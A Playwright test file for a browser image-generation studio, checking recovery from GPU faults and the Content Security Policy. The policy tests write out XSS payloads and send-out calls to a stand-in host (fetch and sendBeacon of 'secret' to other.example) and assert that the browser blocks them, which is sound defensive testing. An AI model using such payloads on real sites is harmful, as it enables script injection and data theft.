import { expect, type Page, test } from 'playwright/test';

import { belongings, expectIntact, expectRunsIntact } from './support/belongings.ts';
import { dropFiles } from './support/drop.ts';
import {
  complain,
  complainLate,
  type Complaint,
  failNextReadback,
  holdDevice,
  miscompile,
  seemSlow,
  submissions,
} from './support/gpuFaults.ts';
import { HOSTILE_LINKS, hostileFiles, NOWHERE } from './support/hostileFiles.ts';
import { generate, listOnly, openStudio, paintLayout, resultPixels, setSeed } from './support/page.ts';

const TINY = 'models/tiny/';
const TINY_LABELS: [string, string] = ['label 1', 'label 7'];

const status = (page: Page) => page.getByRole('status', { name: 'Status' });
const diagnostics = (page: Page) => page.evaluate(() => window.tessera!.diagnostics());
const bar = (page: Page) => page.getByRole('progressbar', { name: 'Generating' });

/** Takes the device away in a run that has begun, and waits until the page says that it is back and goes on. */
async function loseInRun(page: Page, nth: number, lose: () => Promise<void>): Promise<void> {
  await expect
    .poll(async () => Number(await bar(page).getAttribute('aria-valuenow')), {
      timeout: 120_000,
      intervals: [20],
    })
    .toBeGreaterThan(5);
  await lose();
  await expect(page.getByText('The graphics device was lost and is back.')).toBeVisible({ timeout: 180_000 });
  await page.getByRole('button', { name: 'Dismiss' }).click();
  expect((await diagnostics(page)).deviceLosses).toBe(nth);
}

/** The run ends with a named error, its pixels are not shown, and it can be continued. */
async function isRefused(page: Page, complaint: Complaint, told: string, advice: RegExp): Promise<void> {
  await complain(page, complaint);
  const alert = page.getByRole('alert').filter({ hasText: told });
  await expect(alert).toContainText(advice, { timeout: 120_000 });
  await expect(bar(page)).toBeHidden();
  await alert.getByRole('button', { name: 'Dismiss' }).click();
}

test('a graphics device that goes, gives nothing back, has no memory left or computes wrongly costs nothing', async ({
  page,
}) => {
  test.setTimeout(600_000); // the software adapter compiles every kernel on the processor, anew on each device
  await openStudio(page, { backend: 'webgpu', model: TINY });
  await paintLayout(page, TINY_LABELS);
  await setSeed(page, 5);
  await seemSlow(page, 1);
  await generate(page, 300_000);
  const undisturbed = await resultPixels(page);
  const before = await diagnostics(page);
  expect(before).toMatchObject({ backend: 'webgpu', deviceLosses: 0, generation: 1, errors: [] });
  const kept = await belongings(page, 1);

  await test.step('a device on which all takes ten times as long gets less at a time', async () => {
    const usual = await submissions(page);
    await seemSlow(page, 10);
    await generate(page, 300_000);
    expect(await submissions(page)).toBeGreaterThan(1.5 * usual);
    expect(await resultPixels(page)).toBe(undisturbed);
    await seemSlow(page, 1);
  });

  // One run meets four faults: each costs some time, and no token, stroke or entry of the history.
  await holdDevice(page);
  await page.getByRole('button', { name: 'Generate', exact: true }).click();
  await test.step('the device is lost, and complains when another one has taken over', async () => {
    await loseInRun(page, 1, () => page.evaluate(() => window.tessera!.loseDevice()));
    await complainLate(page);
  });
  await test.step('a readback fails', () => loseInRun(page, 2, () => failNextReadback(page)));
  const continueRun = () => page.getByRole('button', { name: 'Continue run' }).click();
  await test.step('the driver refuses a command', async () => {
    await isRefused(page, 'GPUValidationError', 'driver refused a part of the work', /try again/i);
    expect(await resultPixels(page)).not.toBe(undisturbed);
    expect(await belongings(page, 1)).toEqual(kept);
    await continueRun();
  });
  await test.step('the memory runs out', async () => {
    await isRefused(
      page,
      'GPUOutOfMemoryError',
      'graphics memory was not enough',
      /choose a smaller picture/i,
    );
    expect(await resultPixels(page)).not.toBe(undisturbed);
    expect(await belongings(page, 1)).toEqual(kept);
    await continueRun();
  });
  await expect.poll(() => resultPixels(page), { timeout: 300_000 }).toBe(undisturbed);
  await expect(bar(page)).toBeHidden();
  // Token for token the run that the history has: it is not kept twice.
  expect(await belongings(page, 1)).toEqual(kept);
  // Nothing of the lost devices is left behind.
  expect(await diagnostics(page)).toMatchObject({
    backend: 'webgpu',
    generation: 3,
    tensors: before.tensors,
    bytes: before.bytes,
  });
  await expect(page.getByRole('alert')).toHaveCount(0);

  await test.step('the diagnostics tell of all of it', async () => {
    await page.evaluate(() => (location.hash = '#/diagnostics'));
    const told = page.getByRole('main');
    await expect(told).toContainText('driver refused a part of the work');
    await expect(told).toContainText('graphics memory was not enough');
    await expect(told).toContainText(/Devices lost\s*2/);
    await page.getByRole('link', { name: 'Studio', exact: true }).click();
  });

  await test.step('the device is lost again', async () => {
    await page.evaluate(() => window.tessera!.loseDevice());
    await expect(page.getByText('WASM has taken over')).toBeVisible({ timeout: 60_000 });
    await expect(status(page)).toContainText('WASM');
    await generate(page);
    await expectIntact(page, kept);
  });

  await test.step('a driver miscompiles a kernel', async () => {
    await miscompile(page, 'embed', 'tokenPart + positionPart', 'tokenPart - positionPart');
    const layout = await page.evaluate(() => localStorage.getItem('tessera.layout'));
    expect(layout).not.toBeNull();
    await page.reload();
    await expect(page.getByRole('alert').filter({ hasText: /wrong results in: embed/ })).toBeVisible({
      timeout: 180_000,
    });
    await expect(page.getByRole('button', { name: 'Generate', exact: true })).toBeDisabled();
    // Without its model it is shown in other colours.
    expect(await page.evaluate(() => localStorage.getItem('tessera.layout'))).toBe(layout);
    await expectRunsIntact(page, kept);
  });
});

test('files and links that are made to do harm are named, and change nothing', async ({ page }) => {
  const thrown: string[] = [];
  page.on('pageerror', ({ message }) => thrown.push(message));
  await test.step('the line breaks when the part that computes is fetched, and is back', async () => {
    const worker = /\/worker-[\w-]+\.js$/;
    await page.route(worker, (route) => route.abort());
    await page.goto(`./?backend=wasm&model=${TINY}`);
    const alert = page.getByRole('alert').filter({ hasText: 'could not be started' });
    await expect(alert.first()).toContainText(/try again/i);
    // Not before the model has been asked for too: that is a try of its own, which would go well.
    await expect(page.getByRole('status', { name: 'Status' })).toContainText('No model');
    await page.unroute(worker);
    await alert.getByRole('button', { name: 'Try again' }).click();
    await expect(page.getByRole('button', { name: 'Generate', exact: true })).toBeEnabled();
  });
  await page.getByRole('button', { name: 'Example: Island' }).click();
  await generate(page);
  const [before, picture] = [await belongings(page, 1), await resultPixels(page)];
  const isNamed = async (told: RegExp): Promise<void> => {
    const alert = page.getByRole('alert').filter({ hasText: told });
    await expect(alert).toBeVisible();
    // In the import sheet it stands below what is said.
    await page.getByRole('button', { name: 'Dismiss' }).first().click();
    await expect(alert).toHaveCount(0);
  };
  for (const { files, told } of hostileFiles()) {
    await test.step(files.map(({ name }) => name).join(' and '), async () => {
      await dropFiles(page, files);
      await isNamed(told);
    });
  }
  await page.getByRole('link', { name: 'Studio', exact: true }).click();
  for (const [hash, told] of HOSTILE_LINKS) {
    await page.evaluate((to) => (location.hash = to), hash);
    await isNamed(told);
  }
  expect(await resultPixels(page)).toBe(picture);
  expect(await belongings(page, 1)).toEqual(before);

  await test.step('a page that cannot be shown is said in its place, and the others work', async () => {
    await page.evaluate(() => {
      const { DateTimeFormat } = Intl;
      Object.assign(window, { mend: () => (Intl.DateTimeFormat = DateTimeFormat) });
      Intl.DateTimeFormat = (() => {
        throw new RangeError('made to fail');
      }) as unknown as typeof Intl.DateTimeFormat;
    });
    await page.getByRole('link', { name: 'History', exact: true }).click();
    const alert = page.getByRole('main').getByRole('alert');
    await expect(alert).toContainText('Your layout, runs and models are kept');
    await page.getByRole('link', { name: 'Studio', exact: true }).click();
    expect(await belongings(page, 1)).toEqual(before);
    await page.getByRole('link', { name: 'History', exact: true }).click();
    await page.evaluate(() => (window as unknown as { mend(): void }).mend());
    await alert.getByRole('button', { name: 'Show it again' }).click();
    await expect(page.getByRole('button', { name: /^Open the run of/ })).toHaveCount(1);
  });

  // Keypoints are read where there is a model of poses.
  await page.getByRole('link', { name: 'Studio', exact: true }).click();
  await page.getByRole('combobox', { name: 'Model' }).selectOption({ label: 'Tiny with poses' });
  await expect(page.getByRole('button', { name: 'Generate', exact: true })).toBeEnabled();
  await dropFiles(page, NOWHERE.files);
  await isNamed(NOWHERE.told);

  const changed = () => ['polluted' in {}, 'injected' in window];
  expect(await page.evaluate(changed)).toEqual([false, false]);
  expect(thrown).toEqual([]);
});

test.describe('the page’s policy', () => {
  /** What the browser refused, by directive. */
  const violations = (page: Page) => page.evaluate(() => (window as { refused?: string[] }).refused ?? []);

  test('is sent, is broken by nothing that the page does, and stops what is injected', async ({ page }) => {
    await page.addInitScript(() => {
      const refused: string[] = [];
      Object.assign(window, { refused });
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
        refused.push(effectiveDirective),
      );
    });
    const policies = new Map<string, string>();
    page.on('response', (response) => {
      const name = /(worker)-[\w-]+\.js$/.exec(response.url())?.[1] ?? new URL(response.url()).pathname;
      policies.set(name, response.headers()['content-security-policy'] ?? '');
    });
    const complaints: string[] = [];
    page.on('console', (message) => {
      if (/Content Security Policy|Trusted/i.test(message.text())) complaints.push(message.text());
    });
    await openStudio(page, { backend: 'wasm', model: TINY });
    await paintLayout(page, TINY_LABELS);
    await generate(page);
    for (const name of ['codebook', 'library', 'learn', 'diagnostics']) {
      await page.evaluate((to) => (location.hash = `#/${to}`), name);
      await expect(page).toHaveTitle(new RegExp(`^${name} `, 'i'));
      await expect(page.getByRole('main').getByRole('heading').first()).toBeVisible();
    }
    expect(policies.get('/')).toContain("script-src 'self';");
    expect(policies.get('/')).toContain("connect-src 'self' data: blob:;");
    expect(policies.get('worker')).toContain("'wasm-unsafe-eval'");
    expect([...policies.values()].join()).not.toContain("'unsafe-");
    expect(complaints).toEqual([]);
    expect(await violations(page)).toEqual([]);

    const asked: string[] = [];
    await page.route('https://other.example/**', (route) => {
      asked.push(route.request().url());
      return route.fulfill({ body: 'window.injected = true', contentType: 'text/javascript' });
    });
    const outcome = await page.evaluate(async () => {
      const tried = async (work: () => unknown) => {
        try {
          await work();
          return 'done';
        } catch (error) {
          return (error as Error).name;
        }
      };
      const script = (fill: (element: HTMLScriptElement) => void) => {
        const element = document.createElement('script');
        fill(element);
        document.head.append(element);
      };
      return {
        text: await tried(() => script((element) => (element.textContent = 'window.injected = true'))),
        source: await tried(() => script((element) => (element.src = 'https://other.example/a.js'))),
        markup: await tried(() => (document.body.innerHTML = '<img src=x onerror="window.injected = true">')),
        parsed: await tried(() =>
          document.body.insertAdjacentHTML('beforeend', '<script>injected = 1</script>'),
        ),
        worker: await tried(() => new Worker('https://other.example/w.js')),
        data: await tried(() => new Worker('data:text/javascript,fetch("https://other.example/")')),
        fetched: await tried(() => fetch('https://other.example/secret')),
        beacon: navigator.sendBeacon('https://other.example/beacon', 'secret'),
      };
    });
    expect(outcome).toMatchObject({
      text: 'TypeError',
      source: 'TypeError',
      markup: 'TypeError',
      parsed: 'TypeError',
      worker: 'TypeError',
      data: 'TypeError',
      fetched: 'TypeError',
    });
    // These are no script yet, so they are refused only when they would load or run.
    await page.evaluate(() => {
      const image = new Image();
      image.src = 'https://other.example/pixel.png';
      const frame = document.createElement('iframe');
      frame.src = 'https://other.example/frame.html';
      const style = document.createElement('style');
      style.textContent =
        '@import "https://other.example/a.css"; body { background: url(https://other.example/b.png) }';
      document.body.append(image, frame, style);
    });
    await expect.poll(() => violations(page)).toEqual(expect.arrayContaining(['img-src', 'style-src-elem']));
    expect(asked).toEqual([]);
    expect(await page.evaluate(() => 'injected' in window)).toBe(false);
  });

  test('names the host of a link’s model before asking it, and shows markup in names as text', async ({
    page,
  }) => {
    const asked: string[] = [];
    await page.route('https://weights.example/**', (route) => {
      asked.push(route.request().url());
      return route.abort();
    });
    const name = '<img src=x onerror="window.injected=true">{{7*7}}';
    await listOnly(page, 'tiny', name);
    // A host that sends no headers of ours: the policy in the page itself has to do.
    await page.route(
      ({ pathname }) => pathname === '/',
      async (route) => {
        const response = await route.fetch();
        const { 'content-security-policy': sent, ...headers } = response.headers();
        expect(sent).toContain("default-src 'none'");
        await route.fulfill({ response, headers });
      },
    );
    await page.goto('./?backend=wasm&model=https://weights.example/landscapes/');
    await expect(page.getByRole('alert')).toContainText('weights.example, which is not this site');
    await expect(page.getByRole('button', { name: 'Generate', exact: true })).toBeEnabled();
    expect(asked).toEqual([]);
    await page.getByRole('link', { name: 'Library', exact: true }).click();
    await expect(page.getByRole('heading', { name, exact: true })).toBeVisible();
    await page.route('https://other.example/**', (route) => {
      asked.push(route.request().url());
      return route.fulfill({ headers: { 'access-control-allow-origin': '*' } });
    });
    const refused = await page.evaluate(async () => {
      const nameOf = (error: unknown) => (error as Error).name;
      const script = document.createElement('script');
      const write = () => {
        script.textContent = 'window.injected = true';
        document.head.append(script);
      };
      const written = await Promise.resolve()
        .then(write)
        .then(() => 'done', nameOf);
      return [written, await fetch('https://other.example/secret').then(() => 'done', nameOf)];
    });
    expect(refused).toEqual(['TypeError', 'TypeError']);
    expect(asked).toEqual([]);
    expect(await page.evaluate(() => 'injected' in window)).toBe(false);
    await page.getByRole('button', { name: 'Fetch from weights.example' }).click();
    await expect.poll(() => asked[0]).toBe('https://weights.example/landscapes/model.json');
  });
});
